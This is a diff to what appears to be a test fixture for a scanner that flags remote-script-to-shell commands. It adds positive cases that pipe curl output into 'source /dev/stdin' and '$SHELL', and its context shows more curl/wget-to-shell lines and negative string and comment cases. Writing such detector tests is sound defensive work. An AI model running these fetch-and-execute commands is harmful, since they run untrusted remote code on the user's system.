@@ -62,6 +62,9 @@ curl -s https://example.com/x | (sh)
 wget -qO- https://example.com/y | { bash; }
 #@ pos piped into a login shell through sudo -i
 curl -s https://example.com/x | sudo -i
+#@ pos sourced from /dev/stdin, and the user's $SHELL
+curl -s https://example.com/env | source /dev/stdin
+curl -s https://example.com/x | $SHELL
 #@ neg the words inside a string
 echo "run: curl https://example.com/x | sh"
 #@ neg in a comment
